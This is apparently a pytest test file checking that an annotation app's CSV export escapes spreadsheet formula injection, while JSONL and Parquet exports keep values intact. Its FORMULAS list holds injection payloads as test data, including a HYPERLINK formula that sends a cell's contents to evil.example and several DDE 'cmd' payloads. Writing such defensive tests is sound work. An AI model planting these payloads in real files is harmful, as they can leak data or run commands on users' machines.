"""CSV exports never hand a spreadsheet a live formula (OWASP "CSV Injection"); JSONL and Parquet keep values."""

from __future__ import annotations

import csv
import io
import json

import pyarrow.parquet as pq
import pytest
from django.core.management import call_command

from annotate.coding.services import CodingValues, coding_save
from annotate.models import Study

# Each starts a formula (or, for tab and CR, splits a cell) in Excel, LibreOffice or Google Sheets.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


@pytest.fixture
def planted(study, alice, bob, make_episode):
    """Episodes whose title, cluster and a coder's reason each carry a formula."""
    episodes = []
    for n, formula in enumerate(FORMULAS):
        ep = make_episode(study, kind="incident", cluster=f"{formula}-{n}", title=formula)
        values = CodingValues(not_a_failure=True, not_a_failure_reason=formula)
        coding_save(episode=ep, coder=bob, values=values, version=None)
        episodes.append(ep)
    return episodes


def _export(client, fmt: str) -> bytes:
    response = client.get(f"/api/v1/studies/alpha/export/?format={fmt}")
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_it_neutralises_formula_cells_in_the_csv_export(client, alice, planted):
    client.force_login(alice)
    rows = list(csv.DictReader(io.StringIO(_export(client, "csv").decode())))
    assert len(rows) == len(FORMULAS)
    cells = [cell for row in rows for cell in row.values() if cell]
    # No cell, read back as a spreadsheet would read it, starts a formula.
    assert not [c for c in cells if c[0] in "=+-@\t\r"]
    titles = sorted(row["title"] for row in rows)
    assert titles == sorted("'" + f for f in FORMULAS)
    assert sorted(row["coder1_not_a_failure_reason"] for row in rows) == sorted("'" + f for f in FORMULAS)
    assert all(row["cluster"].startswith("'") for row in rows)


def test_jsonl_and_parquet_keep_the_values_exactly(client, alice, planted, tmp_path):
    client.force_login(alice)
    jsonl = [json.loads(line) for line in _export(client, "jsonl").decode().splitlines()]
    assert sorted(r["title"] for r in jsonl) == sorted(FORMULAS)
    assert sorted(r["codings"][0]["not_a_failure_reason"] for r in jsonl) == sorted(FORMULAS)
    path = tmp_path / "x.parquet"
    path.write_bytes(_export(client, "parquet"))
    assert sorted(pq.read_table(path).column("title").to_pylist()) == sorted(FORMULAS)


def test_a_csv_export_still_round_trips_through_import_dataset(alice, planted, tmp_path):
    first = tmp_path / "a.csv"
    call_command("export", "--study", "alpha", "--format", "csv", "--out", str(first), stdout=io.StringIO())
    call_command("import_dataset", str(first), "--study", "beta", "--owner", "alice", stdout=io.StringIO())
    beta = Study.objects.get(slug="beta")
    assert sorted(beta.documents.values_list("title", flat=True)) == sorted(FORMULAS)
    again = tmp_path / "b.csv"  # the imported coders are named by their pseudonyms
    call_command("export", "--study", "beta", "--format", "csv", "--out", str(again), "--usernames",
                 stdout=io.StringIO())  # fmt: skip

    # Identical but for the study's slug and the new study's own episode ids.
    def rows(path, slug):
        table = list(csv.DictReader(io.StringIO(path.read_text().replace(slug, "alpha"))))
        assert all(r.pop("episode_id").isdigit() for r in table)
        return table

    assert rows(again, "beta") == rows(first, "alpha")
